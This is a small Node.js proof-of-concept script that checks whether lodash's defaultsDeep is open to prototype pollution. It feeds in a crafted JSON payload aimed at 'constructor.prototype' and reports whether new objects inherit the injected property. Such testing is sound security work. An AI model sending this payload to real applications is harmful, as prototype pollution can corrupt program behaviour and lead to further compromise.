"use strict";
// DefaultsDeep writes to the prototype of all objects; a polluted prototype shows on every new object.
const subject = require("lodash");

if (process.argv.includes("benign")) {
  console.log(subject.defaultsDeep({ a: { b: 1 } }, { a: { b: 2, c: 3 } }));
} else {
  try {
    subject.defaultsDeep({}, JSON.parse('{"constructor": {"prototype": {"polluted": "marker"}}}'));
  } catch (error) {
    console.log("refused:", error.message);
  }
}
if ({}.polluted !== undefined) console.log("FLAW SHOWN");
